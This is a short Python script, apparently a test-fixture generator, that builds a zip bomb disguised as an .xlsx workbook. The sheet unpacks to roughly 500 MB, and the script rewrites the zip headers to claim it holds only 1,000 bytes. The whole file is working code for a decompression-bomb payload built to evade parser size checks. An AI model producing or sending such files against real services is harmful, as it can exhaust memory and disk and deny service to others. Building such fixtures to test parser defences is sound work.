"""A zip bomb whose headers lie: its sheet claims 1,000 bytes and unpacks to 500 MB."""
import zipfile, struct, sys
DIR = sys.argv[1]
ROW = b'<row><c t="inlineStr"><is><t></t></is></c></row>'
path = DIR + '/liar.xlsx'
with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr('xl/workbook.xml', '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="DS" sheetId="1"/></sheets></workbook>')
    z.writestr('xl/worksheets/sheet1.xml', b'<?xml version="1.0"?><worksheet><sheetData>' + ROW * (1_000_000_000 // len(ROW) // 2) + b'</sheetData></worksheet>')
data = bytearray(open(path, 'rb').read())
# Every header of the sheet claims 1,000 bytes unpacked.
name = b'xl/worksheets/sheet1.xml'
i = 0
while True:
    i = data.find(name, i)
    if i < 0: break
    if data[i-30:i-26] == b'PK\x03\x04': struct.pack_into('<I', data, i - 30 + 22, 1000)
    if data[i-46:i-42] == b'PK\x01\x02': struct.pack_into('<I', data, i - 46 + 24, 1000)
    i += 1
open(path, 'wb').write(data)

